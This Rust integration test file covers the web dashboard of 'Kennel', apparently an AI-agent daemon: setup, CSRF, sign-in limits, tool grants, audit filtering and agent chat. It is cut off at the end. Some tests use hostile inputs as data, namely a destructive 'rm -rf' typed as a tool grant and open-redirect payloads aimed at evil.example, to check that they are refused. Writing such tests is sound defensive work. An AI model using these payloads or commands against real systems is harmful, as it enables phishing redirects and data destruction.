use kennel_tests::fake_llm::Scripted;
use kennel_tests::{Home, csrf_in};
use serde_json::json;

use crate::daemon;

#[tokio::test]
async fn first_run_goes_to_setup_which_creates_the_operator_once() {
    let (_home, d, _api) = daemon().await;
    let b = d.browser();
    let home = b.get("/").await;
    assert_eq!((home.status, home.header("location")), (303, Some("/setup")));
    let setup = b.get("/setup").await;
    assert_eq!(setup.status, 200);
    assert!(setup.text.contains("Create the first operator"));

    let forged = b.post("/setup", &[("csrf", "0123"), ("name", "ada"), ("password", "correct horse")]).await;
    assert_eq!(forged.status, 403, "the sign-in forms have a CSRF check too");
    let weak = b.set_up("ada", "short").await;
    assert_eq!(weak.status, 422);
    assert!(weak.text.contains("at least 8"));
    // The rule is stated, and checked by the browser, before the form is sent; typed twice.
    assert!(setup.text.contains("At least 8 characters") && setup.text.contains("minlength=\"8\""));
    let csrf = csrf_in(&b.get("/setup").await.text).expect("the form's token");
    let mistyped = b
        .post(
            "/setup",
            &[("csrf", &csrf), ("name", "ada"), ("password", "correct horse"), ("password_again", "correct hose")],
        )
        .await;
    assert_eq!(mistyped.status, 422);
    assert!(mistyped.text.contains("the two passwords differ"), "{}", mistyped.text);

    let done = b.set_up("ada", "correct horse").await;
    assert_eq!((done.status, done.header("location")), (303, Some("/")));
    let cookie = done.header("set-cookie").unwrap();
    assert!(cookie.contains("HttpOnly") && cookie.contains("SameSite=Strict"), "{cookie}");
    assert!(!cookie.contains("Secure"), "plain HTTP on loopback");
    let overview = b.get("/").await;
    assert_eq!(overview.status, 200);
    assert!(overview.text.contains("<h1>Overview</h1>") && overview.text.contains("ada"));

    // Setup is closed once an operator exists.
    let again = d.browser().get("/setup").await;
    assert_eq!((again.status, again.header("location")), (303, Some("/login")));
}

#[tokio::test]
async fn wrong_password_and_unknown_operator_look_the_same_and_sign_out_ends_the_session() {
    let home = Home::new();
    home.cli_with_stdin(&["operator", "add", "ada", "--password-stdin"], "correct horse\n").await;
    let d = home.start().await;
    let b = d.browser();
    assert_eq!(b.get("/").await.header("location"), Some("/login"));

    let wrong = b.sign_in("ada", "wrong horse").await;
    let unknown = b.sign_in("bob", "wrong horse").await;
    assert_eq!((wrong.status, unknown.status), (401, 401));
    let message = |html: &str| {
        let alert = html.split("role=\"alert\"").nth(1)?;
        alert.split_once('>').and_then(|(_, rest)| rest.split('<').next()).map(str::to_string)
    };
    assert_eq!(message(&wrong.text), Some("unknown operator or wrong password".into()));
    assert_eq!(message(&wrong.text), message(&unknown.text));

    let ok = b.sign_in("ada", "correct horse").await;
    assert_eq!(ok.status, 303);
    let session = b.cookie("kennel_session").unwrap();
    assert_eq!(b.get("/agents").await.status, 200);

    let out = b.submit("/", "/logout", &[]).await;
    assert_eq!((out.status, out.header("location")), (303, Some("/login")));
    assert!(b.cookie("kennel_session").is_none());
    // The old cookie value is dead on the server too.
    let replay = d.browser();
    replay.set_cookie("kennel_session", &session);
    assert_eq!(replay.get("/agents").await.status, 303);
}

#[tokio::test]
async fn sign_in_attempts_are_limited_per_address() {
    let home = Home::new();
    home.cli_with_stdin(&["operator", "add", "ada", "--password-stdin"], "correct horse\n").await;
    let d = home.start().await;
    let b = d.browser();
    for _ in 0..5 {
        assert_eq!(b.sign_in("ada", "guess").await.status, 401);
    }
    let limited = b.sign_in("ada", "correct horse").await;
    assert_eq!(limited.status, 429, "even the right password waits once the limit is hit");
    assert!(limited.text.contains("too many failed sign-ins"));
}

/// A signed-in browser on a fresh daemon (and the API client and home).
pub(crate) async fn signed_in_with(
    config: &str,
) -> (Home, kennel_tests::Daemon, kennel_tests::Api, kennel_tests::Browser) {
    let (home, d, api) = crate::daemon_with_config(config).await;
    let b = d.browser();
    assert_eq!(b.set_up("ada", "correct horse").await.status, 303);
    (home, d, api, b)
}

#[tokio::test]
async fn every_form_needs_the_sessions_csrf_token() {
    let (_home, _d, api, b) = signed_in_with("").await;
    let page = b.get("/agent-types").await;
    let token = csrf_in(&page.text).unwrap();
    let without = b.post("/agent-types", &[("name", "sneaky")]).await;
    assert_eq!(without.status, 403);
    let wrong = b.post("/agent-types", &[("csrf", "00000000"), ("name", "sneaky")]).await;
    assert_eq!(wrong.status, 403);
    assert!(api.get("/api/templates/sneaky").await.status == 404, "nothing was created");
    let right = b.post("/agent-types", &[("csrf", &token), ("name", "honest")]).await;
    assert_eq!(right.status, 303);
    assert_eq!(api.get("/api/templates/honest").await.status, 200);
}

#[tokio::test]
async fn the_agent_type_editor_shows_the_apis_validation_next_to_each_field() {
    let (_home, _d, api, b) = signed_in_with("").await;
    let bad = b.submit("/agent-types", "/agent-types", &[("name", "Bad Name"), ("tools", "system_time, rm -rf")]).await;
    assert_eq!(bad.status, 422);
    assert!(bad.text.contains("id=\"name-error\""), "error next to the name field");
    assert!(bad.text.contains("<code>Bad Name</code> is not a valid name"));
    assert!(bad.text.contains("tools[1]: <code>rm -rf</code> has <code> </code>"));
    // What was typed is kept: the grant the picker offers ticked, the other typed.
    assert!(bad.text.contains(r#"name="grant" value="system_time" checked>"#), "{}", bad.text);
    assert!(bad.text.contains(r#"name="tools" value="rm -rf""#), "{}", bad.text);

    let ok = b
        .submit(
            "/agent-types",
            "/agent-types",
            &[("name", "coder"), ("description", "writes code"), ("tools", "meta.*, system_time")],
        )
        .await;
    assert_eq!((ok.status, ok.header("location").unwrap().starts_with("/agent-types/coder")), (303, true));
    let stored = api.get("/api/templates/coder").await;
    assert_eq!(stored.body["capabilities"]["tools"], json!(["meta.*", "system_time"]));

    let clash = b.submit("/agent-types", "/agent-types", &[("name", "coder")]).await;
    assert_eq!(clash.status, 409);
    assert!(clash.text.contains("an agent type named <code>coder</code> already exists"));

    // A running agent's name is explained as such.
    api.post("/api/agents", json!({"template": "coder", "name": "scout"})).await;
    let taken = b.submit("/agent-types", "/agent-types", &[("name", "scout")]).await;
    assert_eq!(taken.status, 409);
    assert!(taken.text.contains("an agent named <code>scout</code> is running"));

    // Editing keeps the rest of the manifest; the TOML form replaces all of it.
    api.put(
        "/api/templates/coder",
        json!({"tool_mode": "lazy", "capabilities": {"tools": ["meta.*"]}, "description": "x"}),
    )
    .await;
    let saved = b
        .submit(
            "/agent-types/coder",
            "/agent-types/coder",
            &[("description", "reviews code"), ("tools", "tool_search")],
        )
        .await;
    assert_eq!(saved.status, 303);
    let stored = api.get("/api/templates/coder").await;
    assert_eq!(
        (stored.body["description"].as_str(), stored.body["tool_mode"].as_str()),
        (Some("reviews code"), Some("lazy"))
    );
    let bad_toml = b
        .submit(
            "/agent-types/coder",
            "/agent-types/coder/toml",
            &[("toml", "name = \"coder\"\ntool_mode = \"sometimes\"\n")],
        )
        .await;
    assert_eq!(bad_toml.status, 422);
    // At its line and column, as `kennel type apply` says it.
    let problems = bad_toml.text.split("id=\"toml-error\"").nth(1).unwrap_or_default();
    assert!(problems.contains("line 2, column 1: tool_mode: "), "{}", bad_toml.text);
    let syntax = b
        .submit("/agent-types/coder", "/agent-types/coder/toml", &[("toml", "name = \"coder\"\ndescription = \n")])
        .await;
    assert_eq!(syntax.status, 422);
    assert!(syntax.text.contains("line 2, column "), "{}", syntax.text);
    // The address the refusal leaves, opened again, is the editor.
    let reopened = b.get("/agent-types/coder/toml").await;
    assert_eq!(reopened.status, 303);
    assert_eq!(reopened.header("location"), Some("/agent-types/coder#manifest"));
    let good_toml = b
        .submit(
            "/agent-types/coder",
            "/agent-types/coder/toml",
            &[("toml", "name = \"coder\"\ndescription = \"from toml\"\n")],
        )
        .await;
    assert_eq!(good_toml.status, 303);
    assert_eq!(api.get("/api/templates/coder").await.body["description"], "from toml");
    assert_eq!(b.submit("/agent-types/coder", "/agent-types/coder/delete", &[]).await.status, 303);
    assert_eq!(api.get("/api/templates/coder").await.status, 404);
}

#[tokio::test]
async fn the_editor_offers_the_configured_providers_and_warns_of_grants_that_match_no_tool() {
    let local = "[providers.local]\nkind = \"openai\"\nbase_url = \"http://127.0.0.1:9/v1\"\napi_key_env = \"\"\n\
                 [providers.local.models.qwen3-8b]\ncontext_tokens = 32768\n";
    let (_home, _d, api, b) = signed_in_with(local).await;
    let page = b.get("/agent-types").await.text;
    assert!(page.contains("<select name=\"provider\">"), "a choice, not a free text field");
    assert!(page.contains("<option value=\"local\">local</option>"), "{page}");
    assert!(page.contains("the default (local)"), "{page}");
    // The model: the configured ones suggested, any other typed.
    assert!(page.contains(r#"name="model" value="" list="model-choices""#), "{page}");
    let choices = page.split(r#"<datalist id="model-choices">"#).nth(1).unwrap_or_default();
    assert!(choices.starts_with(r#"<option value="qwen3-8b">qwen3-8b (local)</option>"#), "{page}");

    // A typed provider that is not configured (an old form, a hand-made request) is refused
    // next to the field with the ones that are, and stays selected, marked.
    let typo = b.submit("/agent-types", "/agent-types", &[("name", "typo"), ("provider", "locl")]).await;
    assert_eq!(typo.status, 422, "{}", typo.text);
    assert!(typo.text.contains("id=\"provider-error\""), "next to the field");
    assert!(
        typo.text.contains("<code>locl</code> is not a provider of this daemon (configured: local)"),
        "{}",
        typo.text
    );
    assert!(typo.text.contains("<option value=\"locl\" selected>locl (not configured)</option>"), "{}", typo.text);
    assert_eq!(api.get("/api/templates/typo").await.status, 404, "nothing saved");

    // A grant that matches no tool is saved, with a warning that names it.
    let saved =
        b.submit("/agent-types", "/agent-types", &[("name", "misspelt"), ("tools", "system_time, memry_*")]).await;
    assert_eq!(saved.status, 303, "{}", saved.text);
    let shown = b.get(saved.header("location").unwrap()).await.text;
    // As a warning, not a success's green.
    let warned = shown.split("class=\"flash warning\">").nth(1).unwrap_or_default();
    assert!(warned.contains("Warning: no tool on this daemon matches the grant <code>memry_*</code>"), "{shown}");
    let clean = b.submit("/agent-types/misspelt", "/agent-types/misspelt", &[("tools", "system_time")]).await;
    assert!(!b.get(clean.header("location").unwrap()).await.text.contains("Warning"), "no warning when all match");

    // The same warning when a grant is added to an agent on its page.
    let agent = api.post("/api/agents", serde_json::json!({"template": "misspelt"})).await;
    let agent = agent.body["id"].as_str().expect("spawned").to_string();
    let page = format!("/agents/{agent}");
    let granted = b.submit(&page, &format!("{page}/grant"), &[("pattern", "browsr.*")]).await;
    let shown = b.get(granted.header("location").unwrap()).await.text;
    let warned = shown.split("class=\"flash warning\">").nth(1).unwrap_or_default();
    assert!(warned.contains("matches the grant <code>browsr.*</code>"), "{shown}");
}

/// The standing the picker shows for `tool` in `page` (its `standing-TOOL` part).
fn picker_standing<'p>(page: &'p str, tool: &str) -> &'p str {
    let part = page.split(&format!("id=\"standing-{tool}\"")).nth(1).unwrap_or_default();
    part.split_once('>').map(|(_, text)| text).unwrap_or_default().split('<').next().unwrap_or_default()
}

#[tokio::test]
async fn the_tool_picker_ticks_a_types_grants_and_previews_each_tools_standing_and_why() {
    let (_home, _d, api, b) = signed_in_with("").await;
    let made = api
        .post(
            "/api/templates",
            serde_json::json!({"name": "picky", "capabilities": {"tools": ["tasks.*", "memory_store", "memry_*"], "deny": ["task_post"]}}),
        )
        .await;
    assert_eq!(made.status, 201, "{}", made.text);

    // The stored grants: the ones the picker offers ticked, the rest typed beside it; each
    // tool says how it stands, the deny list of the TOML included.
    let page = b.get("/agent-types/picky").await.text;
    assert!(page.contains(r#"<input type="checkbox" name="grant" value="tasks.*" checked>"#), "{page}");
    assert!(page.contains(r#"<input type="checkbox" name="grant" value="memory_store" checked>"#), "{page}");
    assert!(page.contains(r#"<input type="checkbox" name="grant" value="system.*">"#), "{page}");
    assert!(page.contains(r#"name="tools" value="memry_*""#), "typed, not lost: {page}");
    assert_eq!(picker_standing(&page, "task_claim"), "allowed by tasks.*");
    assert_eq!(picker_standing(&page, "task_post"), "denied by task_post");
    assert_eq!(picker_standing(&page, "memory_store"), "allowed by memory_store");
    assert_eq!(picker_standing(&page, "system_time"), "not granted");
    assert!(page.contains("no tool on this daemon matches the grant <code>memry_*</code>"), "{page}");
    assert!(page.contains(r#"data-preview="/agent-types-preview?type=picky""#), "{page}");

    // What live.js asks as boxes are ticked: the same picker for the grants in the query,
    // against the stored type (its deny list still wins).
    let asked = b.get("/agent-types-preview?type=picky&grant=system.*&grant=tasks.*&tools=").await;
    assert_eq!(asked.status, 200, "{}", asked.text);
    assert!(!asked.text.contains("<html"), "a fragment: {}", asked.text);
    assert_eq!(picker_standing(&asked.text, "system_time"), "allowed by system.*");
    assert_eq!(picker_standing(&asked.text, "memory_store"), "not granted");
    assert_eq!(picker_standing(&asked.text, "task_post"), "denied by task_post");
    assert!(asked.text.contains(r#"<p id="grant-warning" data-live-part="" hidden"#), "{}", asked.text);
    let tools = api.get("/api/tools?limit=1000").await;
    let system = tools.body.as_array().unwrap().iter().filter(|t| t["family"] == "system").count();
    let counted = asked.text.split("id=\"count-system\"").nth(1).and_then(|p| p.split_once('>')).unwrap_or_default().1;
    assert!(counted.starts_with(&format!("{system} of {system} in<")), "every system tool in: {counted}");
    // A new type is previewed against a manifest of defaults; a grant that does not parse
    // says why instead of a standing.
    let fresh = b.get("/agent-types-preview?type=&grant=system_time").await.text;
    assert_eq!(picker_standing(&fresh, "system_time"), "allowed by system_time");
    let bad = b.get("/agent-types-preview?type=&tools=Bad%20grant").await.text;
    assert!(bad.contains("The grants cannot be previewed:") && bad.contains("has <code> </code>"), "{bad}");
    assert_eq!(b.get("/agent-types-preview?type=nobody").await.status, 404);

    // "Preview the tools" without script: the page with the form's grants, nothing saved,
    // nothing in the operator-action log.
    let previewed = b
        .submit("/agent-types/picky", "/agent-types/picky", &[("grant", "system.*"), ("tools", ""), ("preview", "1")])
        .await;
    assert_eq!(previewed.status, 200, "{}", previewed.text);
    assert_eq!(picker_standing(&previewed.text, "system_time"), "allowed by system.*");
    assert!(previewed.text.contains(r#"value="system.*" checked>"#), "{}", previewed.text);
    let stored = api.get("/api/templates/picky").await;
    assert_eq!(stored.body["capabilities"]["tools"], serde_json::json!(["tasks.*", "memory_store", "memry_*"]));

    // Saved: the ticked boxes, then the typed grants, each once.
    let saved = b
        .submit(
            "/agent-types/picky",
            "/agent-types/picky",
            &[("grant", "system.*"), ("grant", "memory_store"), ("tools", "memry_*, memory_store")],
        )
        .await;
    assert_eq!(saved.status, 303, "{}", saved.text);
    let stored = api.get("/api/templates/picky").await;
    assert_eq!(stored.body["capabilities"]["tools"], serde_json::json!(["system.*", "memory_store", "memry_*"]));
    assert_eq!(stored.body["capabilities"]["deny"], serde_json::json!(["task_post"]), "the TOML's deny list kept");
    let log = api.get("/api/audit/actions?action=type.update").await;
    assert_eq!(log.body.as_array().map(Vec::len), Some(1), "the save, not the preview: {}", log.text);
}

#[tokio::test]
async fn the_tools_inspector_filters_grants_and_tries_tools_through_the_pipeline() {
    let (_home, _d, api, b) = signed_in_with("").await;
    let id = crate::agent_with(&api, "helper", &[]).await;

    let filtered = b.get("/tools?q=artifact").await;
    assert!(filtered.text.contains("id=\"tool-read_artifact\"") && !filtered.text.contains("id=\"tool-system_time\""));
    let all = b.get("/tools").await;
    assert!(all.text.contains("<code>query</code>"), "argument tables come from the schema");

    let as_agent = b.get(&format!("/tools?agent={id}")).await;
    assert!(as_agent.text.contains("helper: not granted"));
    let granted = b
        .submit(
            &format!("/tools?agent={id}"),
            &format!("/agents/{id}/grant"),
            &[("pattern", "system.*"), ("back", &format!("/tools?agent={id}"))],
        )
        .await;
    assert_eq!(granted.status, 303);
    assert!(granted.header("location").unwrap().starts_with(&format!("/tools?agent={id}")));
    let effective = api.get(&format!("/api/agents/{id}/tools")).await;
    let system_time = effective.body.as_array().unwrap().iter().find(|t| t["name"] == "system_time").unwrap().clone();
    assert_eq!(system_time["grant"], "system.*");

    let tried =
        b.submit(&format!("/tools?agent={id}"), "/tools/system_time/try", &[("agent", &id), ("args", "{}")]).await;
    assert_eq!(tried.status, 200);
    // Only the result section counts: the page shows the tool's description elsewhere.
    let result = tried.text.split("id=\"try-result\"").nth(1).expect("the try-it result is shown");
    assert!(result.contains("&quot;utc&quot;") || result.contains("\"utc\""), "{result}");
    let refused = b
        .submit(
            &format!("/tools?agent={id}"),
            "/tools/tool_search/try",
            &[("agent", &id), ("args", "{\"query\": \"x\"}")],
        )
        .await;
    assert!(refused.text.contains("Forbidden"));
    let audit = api.get(&format!("/api/audit?agent={id}")).await;
    assert_eq!(audit.body[0]["caller"], "operator:ada");
    assert_eq!(audit.body[1]["outcome"], "ok");
    // The audit read by outcome and time, in the API and on the page.
    let failed = api.get(&format!("/api/audit?agent={id}&outcome=error")).await;
    assert_eq!(failed.body.as_array().map(Vec::len), Some(1), "{}", failed.text);
    assert_eq!(failed.body[0]["outcome"], "Forbidden");
    let ok = api.get(&format!("/api/audit?agent={id}&outcome=ok")).await;
    assert!(ok.body.as_array().unwrap().iter().all(|r| r["outcome"] == "ok") && ok.body[0]["tool"] == "system_time");
    assert_eq!(api.get(&format!("/api/audit?agent={id}&outcome=Forbidden")).await.body, failed.body);
    let future = api.get(&format!("/api/audit?agent={id}&since=2999-01-01T00:00:00Z")).await;
    assert_eq!(future.body, json!([]), "{}", future.text);
    let past = api.get(&format!("/api/audit?agent={id}&since=2000-01-01T00:00:00Z")).await;
    assert_eq!(past.body.as_array().map(Vec::len), Some(2));
    assert_eq!(api.get("/api/audit?since=yesterday").await.status, 422);
    assert_eq!(api.get("/api/audit?since=").await.status, 422, "blank is not a time");
    let page = b.get(&format!("/audit?agent={id}&outcome=error&within=1h")).await.text;
    assert!(page.contains("<option value=\"error\" selected>failed</option>"), "{page}");
    assert!(page.contains("<option value=\"1h\" selected>the last hour</option>"), "{page}");
    assert!(page.contains("<td>tool_search</td>") && !page.contains("<td>system_time</td>"), "{page}");
    // A tool prefix ends in `*`; its `_` is a character, not a wildcard.
    let prefixed = api.get(&format!("/api/audit?agent={id}&tool=system_*")).await;
    assert_eq!(prefixed.body.as_array().map(Vec::len), Some(1), "{}", prefixed.text);
    assert_eq!(prefixed.body[0]["tool"], "system_time");
    let literal = api.get(&format!("/api/audit?agent={id}&tool=s_stem*")).await;
    assert_eq!(literal.body, json!([]), "{}", literal.text);
    let page = b.get(&format!("/audit?agent={id}&tool=tool_*")).await.text;
    assert!(page.contains("<td>tool_search</td>") && !page.contains("<td>system_time</td>"), "{page}");

    // A try-it has a field per argument, typed as its schema says, keeps its arguments and
    // the view's filters after a run, and its URL opened on its own goes back to the tool.
    api.put(&format!("/api/agents/{id}/capabilities"), json!({"tools": ["system.*", "tool_search"]})).await;
    let view = format!("/tools?agent={id}&q=tool&show=allowed");
    let page = b.get(&view).await.text;
    let form = page.split("action=\"/tools/tool_search/try\"").nth(1).unwrap_or_default();
    assert!(form.contains("query (required)") && form.contains("<input type=\"text\" name=\"arg.query\""), "{form}");
    assert!(form.contains("<input type=\"number\" step=\"1\" name=\"arg.limit\""), "{form}");
    let by_fields = b
        .submit(
            &view,
            "/tools/tool_search/try",
            &[("agent", &id), ("arg.query", "time"), ("arg.limit", "2"), ("args", "")],
        )
        .await;
    let result = by_fields.text.split("id=\"try-result\"").nth(1).expect("the result");
    assert!(
        result.contains("Result of tool_search({&quot;limit&quot;:2,&quot;query&quot;:&quot;time&quot;})")
            || result.contains(r#"Result of tool_search({"limit":2,"query":"time"})"#),
        "{result}"
    );
    assert!(result.contains("system_time"), "{result}");
    assert!(by_fields.text.contains("name=\"arg.query\" value=\"time\""), "the fields are kept");
    let unreadable =
        b.submit(&view, "/tools/tool_search/try", &[("agent", &id), ("arg.query", "x"), ("arg.limit", "two")]).await;
    assert!(unreadable.text.contains("limit: `two` is not a whole number"), "{}", unreadable.text);
    assert!(page.contains("data-confirm=\"Grant helper every tool of the meta family"), "family grants ask first");
    let retried = b
        .submit(
            &view,
            "/tools/tool_search/try",
            &[("agent", &id), ("args", "{\"query\": 7}"), ("q", "tool"), ("show", "allowed")],
        )
        .await;
    assert!(retried.text.contains("InvalidArguments"), "{}", retried.text);
    assert!(retried.text.contains("{\"query\": 7}</textarea>"), "the arguments are kept: {}", retried.text);
    assert!(retried.text.contains("name=\"q\" value=\"tool\"") && !retried.text.contains("id=\"tool-system_time\""));
    let direct = b.get("/tools/tool_search/try").await;
    assert_eq!((direct.status, direct.header("location")), (303, Some("/tools?open=tool_search")));
}

#[tokio::test]
async fn forms_go_back_only_to_paths_on_this_site() {
    let (_home, _d, api, b) = signed_in_with("").await;
    let id = crate::agent_with(&api, "helper", &[]).await;
    let page = format!("/agents/{id}");
    for evil in ["/\\evil.example/", "//evil.example/", "/\t/evil.example/", "https://evil.example/", "/é"] {
        let granted = b.submit(&page, &format!("/agents/{id}/grant"), &[("pattern", "system.*"), ("back", evil)]).await;
        assert_eq!(granted.status, 303, "{evil:?}");
        let location = granted.header("location").unwrap();
        assert_eq!(location, page, "{evil:?}");
    }
}

#[tokio::test]
async fn spawn_chat_and_stop_from_the_dashboard() {
    let llm = kennel_tests::fake_llm::FakeLlm::start().await;
    let (_home, _d, api, b) = signed_in_with(&llm.provider_config("fake", "openai")).await;
    api.post("/api/templates", json!({"name": "clock", "model": "m", "tools": ["system_time"]})).await;

    let spawned = b.submit("/agents", "/agents", &[("template", "clock"), ("name", ""), ("goal", "tell time")]).await;
    assert_eq!(spawned.status, 303);
    let page = spawned.header("location").unwrap().split('?').next().unwrap().to_string();
    let id = page.trim_start_matches("/agents/").to_string();
    let unknown = b.submit("/agents", "/agents", &[("template", "ghost")]).await;
    assert_eq!(unknown.status, 422);
    assert!(unknown.text.contains("no agent type named <code>ghost</code>"));
    assert!(unknown.text.contains("id=\"template-error\""), "shown next to the field");

    llm.push(Scripted::call("system_time", json!({}))).push(Scripted::text("It is noon."));
    let sent = b.submit(&page, &format!("/agents/{id}/chat"), &[("message", "What time is it?")]).await;
    assert_eq!(sent.status, 303);
    let chat = b.get(sent.header("location").unwrap()).await;
    assert!(chat.text.contains("What time is it?"));
    assert!(chat.text.contains("<code>system_time</code>"), "the tool call is shown");
    // Its result folded inside it, indented as "try it" shows one, not as a message of its own.
    let call = chat.text.split("<details class=\"call\">").nth(1).expect("the call").split("</details>").next();
    let ok = "<span class=\"outcome\">ok</span></summary>";
    assert!(call.is_some_and(|c| c.contains(ok) && c.contains("\n  \"unix_ms\": ")), "{}", chat.text);
    assert!(!chat.text.contains("system_time result"), "not shown twice");
    assert!(chat.text.contains("It is noon."));
    assert!(!llm.requests().is_empty());

    let running_page = b.get(&page).await.text;
    assert!(running_page.contains("data-confirm=\"Stop agent clock?"), "stopping asks first");
    let stopped = b.submit("/agents", &format!("/agents/{id}/stop"), &[]).await;
    assert_eq!(stopped.status, 303);
    assert_eq!(api.get(&format!("/api/agents/{id}")).await.body["status"], "stopped");

    // Stopped: no chat box that can only fail; Start and Delete instead of Stop.
    let stopped_page = b.get(&page).await.text;
    assert!(!stopped_page.contains("id=\"chat-form\""), "no chat input on a stopped agent");
    assert!(stopped_page.contains("This agent is stopped: start it to chat."));
    assert!(stopped_page.contains(&format!("action=\"/agents/{id}/start\"")));
    assert!(stopped_page.contains("data-confirm=\"Delete agent clock?"));

    // A new agent takes the free name; lists to choose from tell the two apart.
    let twin = api.post("/api/agents", json!({"template": "clock"})).await.body["id"].as_str().unwrap().to_string();
    let short = &id.replace('-', "")[24..];
    let audit = b.get("/audit").await.text;
    assert!(audit.contains(&format!(">clock (stopped · {short})</option>")), "{audit}");
    let refused = b.submit(&page, &format!("/agents/{id}/start"), &[]).await;
    assert_eq!(refused.status, 409, "the name is taken by the running twin: {}", refused.text);
    assert!(refused.text.contains("an agent named <code>clock</code> is running"));
    api.post(&format!("/api/agents/{twin}/stop"), json!({})).await;
    let started = b.submit(&page, &format!("/agents/{id}/start"), &[]).await;
    assert_eq!(started.status, 303, "{}", started.text);
    assert!(b.get(started.header("location").unwrap()).await.text.contains("Its schedules stay paused"));
    assert_eq!(api.get(&format!("/api/agents/{id}")).await.body["status"], "running");
    let history = b.get(sent.header("location").unwrap()).await.text;
    assert!(history.contains("It is noon.") && history.contains("id=\"chat-form\""), "its history, and the chat again");

    // Delete archives: gone from the lists, its audit kept.
    api.post(&format!("/api/agents/{id}/stop"), json!({})).await;
    let deleted = b.submit(&page, &format!("/agents/{id}/remove"), &[]).await;
    assert_eq!(deleted.status, 303);
    assert!(!b.get("/agents").await.text.contains(&format!("/agents/{id}\"")), "no longer listed");
    assert_eq!(api.get(&format!("/api/audit?agent={id}")).await.body[0]["tool"], "system_time", "its audit stays");
}

#[tokio::test]
async fn a_turn_running_in_a_chat_is_stopped_from_its_page_and_the_chat_says_by_whom() {
    let llm = kennel_tests::fake_llm::FakeLlm::start().await;
    let (_home, _d, api, b) = signed_in_with(&llm.provider_config("fake", "openai")).await;
    let id = crate::agent_from(&api, json!({"name": "chatty", "model": "m"})).await;
    let session =
        api.post(&format!("/api/agents/{id}/sessions"), json!({})).await.body["id"].as_str().unwrap().to_string();
    let page = format!("/agents/{id}?session={session}");
    assert!(!b.get(&page).await.text.contains("id=\"turn-running\""), "nothing runs yet");

    llm.push(kennel_tests::fake_llm::Scripted::SlowText { text: "word ".repeat(80), piece_millis: 250 });
    let running = {
        let (api, id, session) = (api.clone(), id.clone(), session.clone());
        tokio::spawn(async move {
            api.post(&format!("/api/agents/{id}/messages"), json!({"message": "go on and on", "session": session}))
                .await
        })
    };
    let shown = kennel_tests::eventually(std::time::Duration::from_secs(5), || async {
        b.get(&page).await.text.contains("id=\"turn-running\"")
    })
    .await;
    assert!(shown, "the page offers to stop the running turn");
    let stopped = b.submit(&page, &format!("/agents/{id}/sessions/{session}/cancel"), &[]).await;
    assert_eq!(stopped.status, 303, "{}", stopped.text);
    let turn =
        tokio::time::timeout(std::time::Duration::from_secs(5), running).await.expect("it ends at once").unwrap();
    assert_eq!(turn.body["ended"], "cancelled", "{}", turn.text);

    let after = b.get(stopped.header("location").unwrap()).await.text;
    assert!(after.contains("The turn is cancelled; the chat takes your next message."), "{after}");
    assert!(after.contains("Cancelled · ") && after.contains("cancelled by operator:ada"), "{after}");
    assert!(!after.contains("id=\"turn-running\""), "{after}");
    assert!(after.contains("id=\"chat-form\""), "the agent runs on and the chat takes messages");
    let again = b.submit(&page, &format!("/agents/{id}/sessions/{session}/cancel"), &[]).await;
    assert!(b.get(again.header("location").unwrap()).await.text.contains("No turn was running in this chat"));
    let logged = api.get("/api/audit/actions?action=turn.cancel").await;
    assert_eq!(logged.body[0]["actor"], "operator:ada", "{}", logged.text);
}

#[tokio::test]
async fn a_failed_turn_keeps_the_draft_offers_a_retry_and_stays_in_the_session() {
    let llm = kennel_tests::fake_llm::FakeLlm::start().await;
    let (_home, _d, api, b) = signed_in_with(&llm.provider_config("fake", "openai")).await;
    let id = crate::agent_from(&api, json!({"name": "flaky", "model": "m"})).await;
    let page = format!("/agents/{id}");
    llm.push(Scripted::Error { status: 400, body: "model overloaded".into(), retry_after: None });
    let failed = b.submit(&page, &format!("/agents/{id}/chat"), &[("message", "Summarise the week")]).await;
    assert_eq!(failed.status, 502, "{}", failed.text);
    assert!(failed.text.contains("id=\"chat-error\""));
    assert!(failed.text.contains("\nSummarise the week</textarea>"), "the draft is kept: {}", failed.text);
    assert!(failed.text.contains("name=\"retry\" value=\"1\"") && failed.text.contains(">Retry</button>"));

    // Reopened later (the latest session opens by itself): the message and why it went unanswered.
    let reopened = b.get(&page).await.text;
    assert!(reopened.contains("Summarise the week"), "{reopened}");
    assert!(reopened.contains("class=\"msg failed\""), "the failure is stored with the session: {reopened}");
    assert!(reopened.contains("Operator ada · "), "sessions are named by origin");
    let session = api.get(&format!("/api/agents/{id}/sessions")).await.body[0]["id"].as_str().unwrap().to_string();

    // Retry answers the same message; it is not stored twice.
    llm.push(Scripted::text("Here is the summary."));
    let retried = b
        .submit(
            &page,
            &format!("/agents/{id}/chat"),
            &[("message", "Summarise the week"), ("session", &session), ("retry", "1")],
        )
        .await;
    assert_eq!(retried.status, 303, "{}", retried.text);
    let messages = api.get(&format!("/api/sessions/{session}/messages")).await.body;
    let users = messages.as_array().unwrap().iter().filter(|m| m["role"] == "user").count();
    assert_eq!(users, 1, "{messages}");
    assert!(b.get(&page).await.text.contains("Here is the summary."));
    let fresh = b.get(&format!("{page}?session=new")).await.text;
    assert!(fresh.contains(r#"<option value="new" selected"#), "{fresh}");
    // The picker names the session by what it began with.
    assert!(reopened.contains("Operator ada · "), "{reopened}");
    assert!(fresh.contains(&format!(r#"<option value="{session}">Operator ada · "#)), "{fresh}");
    assert!(fresh.contains(" · Summarise the week</option>"), "{fresh}");
}

#[tokio::test]
async fn unknown_pages_are_an_html_404_and_a_deep_link_survives_the_sign_in() {
    let (_home, d, _api, b) = signed_in_with("").await;
    let missing = b.get("/no/such/page").await;
    assert_eq!(missing.status, 404);
    assert!(missing.text.contains("<title>Not found · Kennel</title>"), "{}", missing.text);
    assert!(missing.text.contains("aria-label=\"Sections\""), "with the navigation");
    crate::security_headers::assert_headers("the HTML 404", &missing);
    let api_missing = b.get("/api/no-such-route").await;
    assert_eq!(api_missing.status, 404);
    assert!(
        api_missing.headers["content-type"].to_str().unwrap().starts_with("application/json"),
        "the API keeps JSON"
    );
    let error_page = b.get("/agents/nobody").await;
    assert!(
        error_page.text.contains("<title>Not found · Kennel</title>")
            && error_page.text.contains("<code>nobody</code>")
    );

    let stranger = d.browser();
    let bare = stranger.get("/no/such/page").await;
    assert_eq!(bare.status, 404);
    assert!(!bare.text.contains("aria-label=\"Sections\""), "no navigation for a stranger");
    let deep = stranger.get("/tasks?text=mail").await;
    assert_eq!(deep.header("location"), Some("/login?next=%2Ftasks%3Ftext%3Dmail"));
    let form = stranger.get(deep.header("location").unwrap()).await;
    assert!(form.text.contains("name=\"next\" value=\"/tasks?text=mail\""), "{}", form.text);
    let signed = stranger
        .submit(
            "/login?next=%2Ftasks%3Ftext%3Dmail",
            "/login",
